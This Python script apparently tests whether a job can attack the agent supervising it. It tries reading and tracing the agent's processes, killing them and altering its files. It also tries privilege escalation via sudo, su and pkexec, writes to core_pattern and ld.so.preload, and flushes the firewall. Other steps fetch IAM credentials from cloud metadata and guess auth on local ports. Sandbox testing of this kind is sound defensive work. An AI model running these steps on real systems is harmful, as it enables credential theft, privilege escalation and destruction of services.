"""What a job tries against the agent it runs under. Standard library only; run by the job's own interpreter.

The argument is a file of JSON: `pids` of the agent's processes, `ports` it listens on, `files` of its own, its `code`, the `runner` directory, and
where `imds` is.
Prints a JSON object: every attack with `done`, or with why it was refused. As root it says so and attacks nothing.
"""

import base64
import ctypes
import json
import os
import pwd
import signal
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

ATTACH, SEIZE = 16, 0x4206
PIDFD_GETFD = 438
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
MS_BIND = 4096
LIBC = ctypes.CDLL(None, use_errno=True)
DONE = "done"


def main(arguments: list[str]) -> int:
    given = json.loads(Path(arguments[0]).read_text())
    said: dict[str, Any] = {"uid": os.geteuid(), "groups": os.getgroups(), "environment": dict(os.environ)}  # fmt: skip
    if os.geteuid() != 0:
        attacks = (
            *processes(given["pids"]),
            *files(given["files"]),
            *changes(given["code"]),
            *privileges(),
            *machine(),
        )
        said["attacks"] = {name: outcome(attack) for name, attack in attacks}
        said["ports"] = {str(port): {name: answer(port, text) for name, text in ASKED.items()} for port in given["ports"]}  # fmt: skip
        said["role"] = role(given["imds"])
        said["mount"] = mount_over(Path(given["runner"]))
    print(json.dumps(said))
    return 0


def outcome(attack: Callable[[], object]) -> str:
    try:
        attack()
    except (OSError, EOFError, subprocess.SubprocessError) as exc:
        return f"{type(exc).__name__}: {exc}"
    return DONE


def processes(pids: list[int]) -> Iterator[tuple[str, Callable[[], object]]]:
    for pid in pids:
        folder = Path(f"/proc/{pid}")
        for name in ("environ", "maps", "mem", "auxv", "stack"):
            yield f"read {name} of {pid}", lambda path=folder / name: read(path)  # type: ignore[misc]
        yield f"list fd of {pid}", lambda folder=folder: os.listdir(folder / "fd")  # type: ignore[misc]
        yield f"enter root of {pid}", lambda folder=folder: os.listdir(folder / "root")  # type: ignore[misc]
        yield f"take fd of {pid}", lambda pid=pid: call(PIDFD_GETFD, os.pidfd_open(pid), 1, 0)  # type: ignore[misc]
        yield f"trace {pid}", lambda pid=pid: check(LIBC.ptrace(SEIZE, pid, 0, 0))  # type: ignore[misc]
        yield f"attach to {pid}", lambda pid=pid: check(LIBC.ptrace(ATTACH, pid, 0, 0))  # type: ignore[misc]
        yield f"make the first victim of {pid}", lambda folder=folder: (folder / "oom_score_adj").write_text("1000")  # type: ignore[misc]  # fmt: skip
        yield f"starve {pid}", lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19)  # type: ignore[misc]
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            yield f"{number.name} to {pid}", lambda pid=pid, number=number: os.kill(pid, number)  # type: ignore[misc]


def files(paths: list[str]) -> Iterator[tuple[str, Callable[[], object]]]:
    for path in paths:
        if os.path.isdir(path):
            yield f"list {path}", lambda path=path: os.listdir(path)  # type: ignore[misc]
        else:
            yield f"read {path}", lambda path=path: Path(path).read_bytes()  # type: ignore[misc]
    yield from changes(paths)


def changes(paths: list[str]) -> Iterator[tuple[str, Callable[[], object]]]:
    for path in paths:
        yield f"make a file in {path}", lambda path=path: Path(path, "of-the-job").touch()  # type: ignore[misc]
        yield f"open {path}", lambda path=path: os.open(path, os.O_WRONLY | os.O_APPEND)  # type: ignore[misc]
        yield f"chmod {path}", lambda path=path: os.chmod(path, 0o777)  # type: ignore[misc]
        yield f"rename {path}", lambda path=path: os.rename(path, f"{path}.gone")  # type: ignore[misc]


def privileges() -> Iterator[tuple[str, Callable[[], object]]]:
    yield "setuid", lambda: os.setuid(0)
    yield "setgid", lambda: os.setgid(0)
    for program in (("sudo", "-n", "true"), ("su", "-c", "true"), ("pkexec", "--disable-internal-agent", "true")):  # fmt: skip
        yield program[0], lambda program=program: subprocess.run(program, check=True, stdin=subprocess.DEVNULL, capture_output=True, timeout=10)  # type: ignore[misc]  # fmt: skip
    yield "docker", lambda: connect_unix("/var/run/docker.sock")
    yield "shield itself from the memory killer", lambda: Path("/proc/self/oom_score_adj").write_text("-900")  # fmt: skip
    yield "raise its number of processes", more_processes


def machine() -> Iterator[tuple[str, Callable[[], object]]]:
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/etc/crontab", "/etc/ld.so.preload"):  # fmt: skip
        yield f"open {path}", lambda path=path: os.open(path, os.O_WRONLY)  # type: ignore[misc]
    yield "see its own firewall", lambda: subprocess.run(["/usr/sbin/nft", "flush", "ruleset"], check=True, capture_output=True, timeout=10)  # fmt: skip
    yield "raw socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    own = next((line[3:] for line in Path("/proc/self/cgroup").read_text().splitlines() if line.startswith("0::")), "")  # fmt: skip
    for mount in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
        yield f"leave its cgroup in {mount}", lambda mount=mount: Path(f"{mount}{os.path.dirname(own)}/cgroup.procs").open("w").write(str(os.getpid()))  # type: ignore[misc]  # fmt: skip
    yield "set the clock", lambda: subprocess.run(["date", "-s", "@1"], check=True, capture_output=True, timeout=10)  # fmt: skip
    yield "mount", lambda: check(LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None))


def read(path: Path) -> None:
    """A process that is just ending has empty files, which anybody may open."""
    with path.open("rb") as file:
        if not file.read(16):
            raise EOFError(path)


def more_processes() -> None:
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NPROC)
    try:
        resource.setrlimit(resource.RLIMIT_NPROC, (hard + 1, hard + 1))
    except ValueError as exc:
        raise PermissionError(exc) from exc


def role(imds: str) -> str:
    """The credentials, or why there are none."""
    life = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    try:
        ask = urllib.request.Request(f"{imds}/latest/api/token", method="PUT", headers=life)
        token = {"X-aws-ec2-metadata-token": urllib.request.urlopen(ask, timeout=3).read().decode()}
        where = f"{imds}/latest/meta-data/iam/security-credentials/"
        name = (
            urllib.request.urlopen(urllib.request.Request(where, headers=token), timeout=3)
            .read()
            .decode()
        )
        credentials = urllib.request.Request(where + name, headers=token)
        return str(urllib.request.urlopen(credentials, timeout=3).read().decode())
    except OSError as exc:
        return str(exc)


def mount_over(runner: Path) -> str:
    """In a mount namespace of its own, where the kernel gives one: nobody else may see it."""
    child = os.fork()
    if child == 0:
        got = LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0
        got = got and LIBC.mount(b"/tmp", os.fsencode(runner), None, MS_BIND, None) == 0
        os._exit(0 if got else 1)
    return DONE if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0 else "refused"


def _ask(line: str, *headers: str) -> str:
    return "\r\n".join([f"{line} HTTP/1.1", "Host: 127.0.0.1", "Connection: close", *headers, "", ""])  # fmt: skip


_UPGRADE = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: " + base64.b64encode(b"0" * 16).decode())  # fmt: skip
_GUESS = "Authorization: Basic " + base64.b64encode(b"agent:" + b"0" * 22).decode()
ASKED = {
    **{f"GET {path}": _ask(f"GET {path}") for path in ("/", "/api/health", "/api/ready", "/api/admin/version", "/api/admin/settings", "/docs", "/openapi.json", "/api//health")},
    **{f"POST {path}": _ask(f"POST {path}", "Content-Length: 2") + "{}" for path in ("/api/flows/", "/api/flow_runs/", "/api/artifacts/", "/api/events")},
    "a guess": _ask("GET /api/admin/version", _GUESS),
    "no protocol": _ask("GET /api/events/in").replace("Connection: close", "\r\n".join(_UPGRADE)),
    "websocket": _ask("GET /api/events/in", "Sec-WebSocket-Protocol: prefect").replace("Connection: close", "\r\n".join(_UPGRADE)),
}  # fmt: skip


def answer(port: int, text: str) -> str:
    """The status of the answer; with `websocket`, what came of a wrong string sent after it."""
    try:
        with socket.create_connection(("127.0.0.1", port), 5) as connection:
            connection.sendall(text.encode())
            status = connection.recv(4096).split(b"\r\n")[0].decode()
            if " 101 " in status:
                connection.sendall(_frame({"type": "auth", "token": "agent:guess"}))
                status = "101 then " + ("in" if b"auth_success" in connection.recv(4096) else "out")
            return status
    except OSError as exc:
        return f"{type(exc).__name__}"


def _frame(message: dict[str, str]) -> bytes:
    text = json.dumps(message).encode()
    return bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text


def connect_unix(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)


def check(result: int) -> None:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def call(number: int, *arguments: int) -> None:
    check(LIBC.syscall(number, *arguments))


if __name__ == "__main__":
    assert pwd.getpwuid(os.getuid())
    raise SystemExit(main(sys.argv[1:]))
